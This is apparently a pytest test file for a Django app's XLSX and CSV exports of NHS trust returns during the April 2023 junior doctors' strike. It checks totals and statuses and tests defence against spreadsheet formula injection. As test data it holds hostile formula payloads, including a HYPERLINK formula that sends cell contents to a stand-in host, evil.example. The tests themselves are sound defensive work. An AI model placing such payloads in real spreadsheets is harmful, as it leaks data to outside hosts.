"""Downloads of an action in publication layout: XLSX opened with openpyxl, CSV, and injection."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from reports.exports import safe_text
from tests.factories import make_action, make_return
from trusts.models import ReturnStatus, Trust

pytestmark = pytest.mark.django_db

DAY1, DAY2 = dt.date(2023, 4, 11), dt.date(2023, 4, 12)


@pytest.fixture
def action(rwe):
    action = make_action()
    make_return(action, rwe, DAY1, elective_rescheduled=165, outpatient_rescheduled=2133, community_rescheduled=4,
                mental_health_rescheduled=1, staff_absent=700, staff_due=1900)
    make_return(action, rwe, DAY2, elective_rescheduled=10, outpatient_rescheduled=20, staff_absent=650,
                staff_due=1900)
    make_return(action, "RX1", DAY1)  # a nil return: zeros, confirmed
    make_return(action, "RX1", DAY2, status=ReturnStatus.DRAFT, elective_rescheduled=99)  # not a return yet
    return action


def _sheet_rows(workbook, name: str) -> tuple[list[str], dict[str, dict]]:
    rows = list(workbook[name].iter_rows(values_only=True))
    header = list(rows[1])
    return header, {r[0]: dict(zip(header, r, strict=True)) for r in rows[2:]}


def test_xlsx_is_publication_ready_with_a_sheet_per_level_totals_statuses_and_metadata(client, nia, action) -> None:
    client.force_login(nia)
    response = client.get(f"/reports/actions/{action.slug}/download.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="junior-doctors-april-2023-england.xlsx"' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Metadata", "England", "Regions", "ICBs", "Trusts"]
    header, by_code = _sheet_rows(workbook, "Trusts")
    assert header[:6] == ["ODS code", "Trust", "Trust type", "ICB", "Region", "Status"]
    assert "11 Apr 2023 staff absent" in header and "11 Apr 2023 status" in header
    assert len(by_code) - 1 >= 200  # every trust that owed a return, and the total row
    rwe = by_code["RWE"]
    assert rwe["Trust"] == "University Hospitals of Leicester NHS Trust"
    assert rwe["ICB"] == "Leicester, Leicestershire and Rutland ICB"
    assert rwe["Region"] == "Midlands"
    assert rwe["Status"] == "not submitted"  # two of four days are missing
    assert rwe["11 Apr 2023 status"] == "submitted"
    assert rwe["11 Apr 2023 staff absent"] == 700  # a number, not text
    assert rwe["11 Apr 2023 acute rescheduled (elective and outpatient)"] == 2298
    assert rwe["12 Apr 2023 elective procedures rescheduled"] == 10
    assert rwe["13 Apr 2023 status"] == "not submitted"
    assert rwe["13 Apr 2023 elective procedures rescheduled"] is None  # missing, not zero
    assert rwe["Total elective procedures rescheduled"] == 175
    assert rwe["Total total rescheduled"] == 2333
    assert rwe["Peak staff absent"] == 700 and rwe["Peak day"] == "2023-04-11"
    assert rwe["Days reported"] == 2
    rx1 = by_code["RX1"]
    assert rx1["11 Apr 2023 status"] == "nil return" and rx1["11 Apr 2023 elective procedures rescheduled"] == 0
    assert rx1["12 Apr 2023 status"] == "not submitted"  # a draft is not a return
    assert rx1["12 Apr 2023 elective procedures rescheduled"] is None
    silent = next(row for code, row in by_code.items() if code not in ("RWE", "RX1", "Total"))
    assert silent["Status"] == "not submitted" and silent["Total total rescheduled"] is None
    assert by_code["Total"]["Total total rescheduled"] == 2333  # the total row: what was reported
    _, regions = _sheet_rows(workbook, "Regions")
    assert regions["Y60"]["Total total rescheduled"] == 2333 and regions["Total"]["Total total rescheduled"] == 2333
    _, england = _sheet_rows(workbook, "England")
    assert england["2023-04-11"]["Elective procedures rescheduled"] == 165
    assert england["2023-04-13"]["Elective procedures rescheduled"] is None  # nobody reported that day
    assert england["2023-04-11"]["Returns received"] == 2 and england["2023-04-12"]["Returns received"] == 1
    assert england["Total"]["Total rescheduled"] == 2333
    metadata = {r[0]: r[1] for r in workbook["Metadata"].iter_rows(values_only=True) if r and r[0]}
    assert metadata["Industrial action"] == "Junior doctors, April 2023"
    assert metadata["Strike days"] == "11 April 2023, 12 April 2023, 13 April 2023, 14 April 2023"
    assert metadata["Release number"] == "Not a release (live figures)"
    assert str(metadata["Licence"]).startswith("Open Government Licence v3.0")
    expected = england["2023-04-11"]["Returns expected"]
    assert str(metadata["Coverage"]).startswith(f"3 of {expected * 4:,} expected returns")
    coverage = [r[:3] for r in workbook["Metadata"].iter_rows(values_only=True) if r[0] == "2023-04-11"]
    assert coverage == [("2023-04-11", expected, 2)]


def test_csv_is_rectangular_with_statuses_and_empty_cells_for_missing_figures(client, nia, action) -> None:
    client.force_login(nia)
    response = client.get(f"/reports/actions/{action.slug}/download.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    assert {len(r) for r in rows} == {len(header)}  # no notes or comment rows
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    rwe = by_code["RWE"]
    assert rwe["Total elective procedures rescheduled"] == "175"
    assert rwe["13 Apr 2023 staff absent"] == "" and rwe["13 Apr 2023 status"] == "not submitted"
    assert by_code["RX1"]["11 Apr 2023 status"] == "nil return"
    assert by_code["RX1"]["11 Apr 2023 elective procedures rescheduled"] == "0"
    coverage = list(csv.reader(io.StringIO(
        client.get(f"/reports/actions/{action.slug}/coverage.csv").content.decode())))
    assert coverage[0] == ["date", "returns_expected", "returns_received", "returns_on_time", "percent_received"]
    assert [r[0] for r in coverage[1:]] == ["2023-04-11", "2023-04-12", "2023-04-13", "2023-04-14"]
    assert [r[2] for r in coverage[1:]] == ["2", "1", "0", "0"]


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1)",
                                   "\tname", "\rname"])
def test_safe_text_neutralises_formula_triggers(value: str) -> None:
    assert safe_text(value) == "'" + value
    assert safe_text("University Hospitals") == "University Hospitals"


def test_downloads_are_safe_against_formula_injection(client, nia, action) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Trust.objects.filter(ods_code="RWE").update(name=evil)
    Trust.objects.filter(ods_code="RX1").update(name="@SUM(1+1)")
    client.force_login(nia)
    workbook = load_workbook(io.BytesIO(client.get(f"/reports/actions/{action.slug}/download.xlsx").content))
    cells = {row[0].value: row[1] for row in workbook["Trusts"].iter_rows(min_row=3)}
    assert cells["RWE"].value == "'" + evil
    assert cells["RWE"].data_type == "s"
    assert cells["RX1"].value == "'@SUM(1+1)"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    text = client.get(f"/reports/actions/{action.slug}/download.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    names = {r[0]: r[1] for r in rows if len(r) > 1}
    assert names["RWE"] == "'" + evil
    assert names["RX1"] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_a_regional_download_holds_only_the_regions_trusts(client, morgan, action) -> None:
    make_return(action, "RJ1", DAY1, elective_rescheduled=5)
    client.force_login(morgan)
    response = client.get(f"/reports/actions/{action.slug}/download.xlsx")
    assert 'filename="junior-doctors-april-2023-y60.xlsx"' in response["Content-Disposition"]
    rows = list(load_workbook(io.BytesIO(response.content))["Trusts"].iter_rows(min_row=3, values_only=True))[:-1]
    assert {r[4] for r in rows} == {"Midlands"}
    assert "RJ1" not in {r[0] for r in rows}
